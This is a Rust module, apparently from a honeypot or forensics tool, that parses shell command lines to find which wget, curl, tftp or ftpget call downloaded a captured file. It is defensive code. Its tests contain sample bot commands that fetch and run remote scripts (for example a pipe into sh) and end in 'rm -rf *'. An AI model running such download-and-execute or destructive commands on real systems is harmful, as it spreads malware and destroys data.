//! Which command of a session fetched a file: the URLs of wget, curl, tftp and ftpget
//! invocations and the names they save to, so a captured file gets its `url`.
//!
//! This reads command lines the way a shell splits them only roughly (quotes,
//! separators, redirections); it is used to label files, never to decide anything.

/// One fetch a command line asked for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fetch {
    /// The URL as written.
    pub url: String,
    /// The file name it saves to (a bare name or a path as written), when it saves to
    /// a file.
    pub saves_to: Option<String>,
}

/// Splits a command line into simple commands (on `;`, `&&`, `||`, `|`, `&`,
/// newlines) of words, with quotes removed.
fn simple_commands(line: &str) -> Vec<Vec<String>> {
    let mut commands = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    let mut chars = line.chars().peekable();
    let end_word = |words: &mut Vec<String>, word: &mut String, in_word: &mut bool| {
        if *in_word {
            words.push(std::mem::take(word));
            *in_word = false;
        }
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some('"'), '\\') => {
                if let Some(next) = chars.next() {
                    word.push(next);
                }
            }
            (Some(_), c) => word.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                in_word = true;
            }
            (None, '\\') => {
                if let Some(next) = chars.next() {
                    word.push(next);
                    in_word = true;
                }
            }
            (None, ';' | '&' | '|' | '\n' | '\r' | '(' | ')' | '`') => {
                end_word(&mut words, &mut word, &mut in_word);
                if !words.is_empty() {
                    commands.push(std::mem::take(&mut words));
                }
            }
            (None, '>') => {
                end_word(&mut words, &mut word, &mut in_word);
                if chars.peek() == Some(&'>') {
                    chars.next();
                }
                words.push(">".to_owned());
            }
            (None, c) if c.is_whitespace() => end_word(&mut words, &mut word, &mut in_word),
            (None, c) => {
                word.push(c);
                in_word = true;
            }
        }
        if commands.len() > 1000 {
            break;
        }
    }
    end_word(&mut words, &mut word, &mut in_word);
    if !words.is_empty() {
        commands.push(words);
    }
    commands
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn looks_like_url(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    ["http://", "https://", "ftp://", "ftps://", "tftp://"]
        .iter()
        .any(|scheme| lower.starts_with(scheme))
}

/// The name wget and `curl -O` give a URL's content: the last path segment (without
/// query), or `index.html`.
fn remote_name(url: &str) -> String {
    let without_scheme = url.split_once("://").map_or(url, |(_, rest)| rest);
    let path = without_scheme
        .split(['?', '#'])
        .next()
        .unwrap_or(without_scheme);
    match path.split_once('/') {
        Some((_, path)) if !basename(path).is_empty() => basename(path).to_owned(),
        _ => "index.html".to_owned(),
    }
}

/// The value of an option given as `-X value`, `-Xvalue`, `--long value` or
/// `--long=value`.
fn option_value<'a>(
    words: &'a [String],
    index: usize,
    short: &str,
    long: &str,
) -> Option<(&'a str, usize)> {
    let word = &words[index];
    if word == short || word == long {
        return words.get(index + 1).map(|v| (v.as_str(), 2));
    }
    if let Some(value) = word.strip_prefix(&format!("{long}=")) {
        return Some((value, 1));
    }
    if short.len() == 2 && word.len() > 2 && word.starts_with(short) && !word.starts_with("--") {
        return word.get(2..).map(|v| (v, 1));
    }
    None
}

fn fetches_of(words: &[String]) -> Vec<Fetch> {
    // `busybox wget ...`, `/usr/bin/curl ...`, `sudo wget`.
    let mut start = 0;
    while start < words.len() && matches!(basename(&words[start]), "busybox" | "sudo" | "nohup") {
        start += 1;
    }
    let Some(program) = words.get(start).map(|w| basename(w)) else {
        return Vec::new();
    };
    let args = &words[start + 1..];
    let redirect = args
        .iter()
        .position(|w| w == ">")
        .and_then(|i| args.get(i + 1))
        .cloned();
    let urls: Vec<&String> = args.iter().filter(|w| looks_like_url(w)).collect();
    match program {
        "wget" | "curl" => {
            let mut output: Option<String> = None;
            let mut remote = false;
            let mut prefix: Option<String> = None;
            let mut i = 0;
            while i < args.len() {
                let (short, long) = if program == "wget" {
                    ("-O", "--output-document")
                } else {
                    ("-o", "--output")
                };
                if let Some((value, used)) = option_value(args, i, short, long) {
                    output = Some(value.to_owned());
                    i += used;
                    continue;
                }
                if program == "wget"
                    && let Some((value, used)) = option_value(args, i, "-P", "--directory-prefix")
                {
                    prefix = Some(value.to_owned());
                    i += used;
                    continue;
                }
                if program == "curl" && (args[i] == "-O" || args[i] == "--remote-name") {
                    remote = true;
                }
                i += 1;
            }
            urls.into_iter()
                .map(|url| {
                    let saves_to = match (&output, program) {
                        (Some(out), _) if out == "-" => redirect.clone(),
                        (Some(out), _) => Some(out.clone()),
                        (None, "wget") => Some(match &prefix {
                            Some(dir) => format!("{dir}/{}", remote_name(url)),
                            None => remote_name(url),
                        }),
                        (None, _) if remote => Some(remote_name(url)),
                        (None, _) => redirect.clone(),
                    };
                    Fetch {
                        url: url.clone(),
                        saves_to,
                    }
                })
                .collect()
        }
        "tftp" => {
            // tftp -g -r REMOTE [-l LOCAL] HOST [PORT]
            let mut remote_file = None;
            let mut local = None;
            let mut plain = Vec::new();
            let mut i = 0;
            while i < args.len() {
                match args[i].as_str() {
                    "-r" => {
                        remote_file = args.get(i + 1).cloned();
                        i += 2;
                    }
                    "-l" => {
                        local = args.get(i + 1).cloned();
                        i += 2;
                    }
                    word if word.starts_with('-') => i += 1,
                    word => {
                        plain.push(word);
                        i += 1;
                    }
                }
            }
            match (plain.first(), remote_file) {
                (Some(host), Some(remote_file)) => vec![Fetch {
                    url: format!(
                        "tftp://{}/{remote_file}",
                        authority(host, plain.get(1).copied(), 69)
                    ),
                    saves_to: Some(local.unwrap_or_else(|| basename(&remote_file).to_owned())),
                }],
                _ => Vec::new(),
            }
        }
        "ftpget" => {
            // ftpget [-u USER -p PASS -P PORT] HOST LOCAL REMOTE
            let mut plain = Vec::new();
            let mut port = None;
            let mut i = 0;
            while i < args.len() {
                if args[i] == "-P" {
                    port = args.get(i + 1).map(String::as_str);
                    i += 2;
                } else if matches!(args[i].as_str(), "-u" | "-p") {
                    i += 2;
                } else if args[i].starts_with('-') {
                    i += 1;
                } else {
                    plain.push(args[i].clone());
                    i += 1;
                }
            }
            match plain.as_slice() {
                [host, local, remote, ..] => vec![Fetch {
                    url: format!(
                        "ftp://{}/{}",
                        authority(host, port, 21),
                        remote.trim_start_matches('/')
                    ),
                    saves_to: Some(local.clone()),
                }],
                _ => Vec::new(),
            }
        }
        _ => Vec::new(),
    }
}

/// A URL's authority for a host and a port given apart (an IPv6 address in
/// brackets); the scheme's `default` port and a port that is not a number are left
/// out.
fn authority(host: &str, port: Option<&str>, default: u16) -> String {
    let host = if host.contains(':') && !host.starts_with('[') {
        format!("[{host}]")
    } else {
        host.to_owned()
    };
    match port.and_then(|port| port.parse::<u16>().ok()) {
        Some(port) if port != default => format!("{host}:{port}"),
        _ => host,
    }
}

/// The fetches a command line asks for.
pub fn fetches(line: &str) -> Vec<Fetch> {
    simple_commands(line)
        .iter()
        .flat_map(|words| fetches_of(words))
        .collect()
}

/// The URL that saved a file at `path`: the latest fetch whose target name is the
/// file's name (or its path, when the command gave one).
pub fn url_for<'a, I>(fetches: I, path: &str) -> Option<&'a str>
where
    I: IntoIterator<Item = &'a Fetch>,
    I::IntoIter: DoubleEndedIterator,
{
    fetches
        .into_iter()
        .rev()
        .find(|fetch| {
            fetch.saves_to.as_deref().is_some_and(|target| {
                if target.starts_with('/') {
                    target == path
                } else {
                    path.ends_with(&format!("/{}", target.trim_start_matches("./")))
                }
            })
        })
        .map(|fetch| fetch.url.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(line: &str) -> Fetch {
        let mut found = fetches(line);
        assert_eq!(found.len(), 1, "{line}: {found:?}");
        found.remove(0)
    }

    #[test]
    fn wget_names() {
        let f = one("cd /tmp; wget http://198.51.100.9/bins/x86.sh; chmod +x x86.sh");
        assert_eq!(f.url, "http://198.51.100.9/bins/x86.sh");
        assert_eq!(f.saves_to.as_deref(), Some("x86.sh"));
        assert_eq!(
            one("wget -q -O /tmp/a http://h/p?x=1").saves_to.as_deref(),
            Some("/tmp/a")
        );
        assert_eq!(
            one("wget -O/tmp/b http://h/p").saves_to.as_deref(),
            Some("/tmp/b")
        );
        assert_eq!(
            one("wget --output-document=c.bin http://h/p")
                .saves_to
                .as_deref(),
            Some("c.bin")
        );
        assert_eq!(
            one("wget http://h/").saves_to.as_deref(),
            Some("index.html")
        );
        assert_eq!(one("wget http://h").saves_to.as_deref(), Some("index.html"));
        assert_eq!(
            one("wget -P /var/tmp http://h/m.sh").saves_to.as_deref(),
            Some("/var/tmp/m.sh")
        );
        assert_eq!(
            one("busybox wget http://h/k -O- > k2").saves_to.as_deref(),
            Some("k2")
        );
        assert_eq!(
            one("wget 'http://h/q uoted.sh'").saves_to.as_deref(),
            Some("q uoted.sh")
        );
    }

    #[test]
    fn curl_names() {
        assert_eq!(one("curl -s http://h/x.sh | sh").saves_to, None);
        assert_eq!(
            one("curl -o /tmp/y http://h/x").saves_to.as_deref(),
            Some("/tmp/y")
        );
        assert_eq!(
            one("curl -O https://h/dir/z.tar.gz").saves_to.as_deref(),
            Some("z.tar.gz")
        );
        assert_eq!(
            one("curl -sL http://h/x > /tmp/r").saves_to.as_deref(),
            Some("/tmp/r")
        );
        assert_eq!(
            one("/usr/bin/curl --output=o http://h/x")
                .saves_to
                .as_deref(),
            Some("o")
        );
    }

    #[test]
    fn tftp_and_ftpget() {
        let t = one("tftp -g -r mips 192.0.2.5 69");
        assert_eq!(t.url, "tftp://192.0.2.5/mips");
        assert_eq!(t.saves_to.as_deref(), Some("mips"));
        let t = one("tftp -g -l local.bin -r /srv/arm7 192.0.2.5");
        assert_eq!(t.saves_to.as_deref(), Some("local.bin"));
        let f = one("ftpget -u a -p b 192.0.2.6 arm /pub/arm");
        assert_eq!(f.url, "ftp://192.0.2.6/pub/arm");
        assert_eq!(f.saves_to.as_deref(), Some("arm"));
        // A port given apart is part of the URL (the gateway reports it so).
        assert_eq!(
            one("tftp -g -r mips 192.0.2.5 6969").url,
            "tftp://192.0.2.5:6969/mips"
        );
        assert_eq!(
            one("tftp -g -r m 2001:db8::5").url,
            "tftp://[2001:db8::5]/m"
        );
        assert_eq!(
            one("ftpget -P 2121 192.0.2.6 arm arm").url,
            "ftp://192.0.2.6:2121/arm"
        );
    }

    #[test]
    fn a_typical_bot_line() {
        let line = "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.9/bins.sh; \
                    chmod 777 bins.sh; sh bins.sh; tftp -g -r tftp1.sh 198.51.100.9; \
                    curl -O http://198.51.100.9/c.sh; rm -rf *";
        let found = fetches(line);
        assert_eq!(found.len(), 3);
        assert_eq!(
            url_for(&found, "/tmp/bins.sh"),
            Some("http://198.51.100.9/bins.sh")
        );
        assert_eq!(
            url_for(&found, "/tmp/tftp1.sh"),
            Some("tftp://198.51.100.9/tftp1.sh")
        );
        assert_eq!(
            url_for(&found, "/tmp/c.sh"),
            Some("http://198.51.100.9/c.sh")
        );
        assert_eq!(url_for(&found, "/tmp/other"), None);
        assert_eq!(url_for(&found, "/tmp/xbins.sh"), None);
    }

    #[test]
    fn nothing_for_other_commands_and_no_panic_on_junk() {
        assert!(fetches("echo http://h/x > /tmp/u").is_empty());
        assert!(fetches("").is_empty());
        for junk in [
            "wget",
            "wget -O",
            "curl -o",
            "'unterminated",
            "\\",
            "tftp -r",
            "> >",
            "ftpget -u",
        ] {
            let _ = fetches(junk);
        }
        let long = "wget http://h/x;".repeat(5000);
        assert!(fetches(&long).len() <= 1001);
    }
}
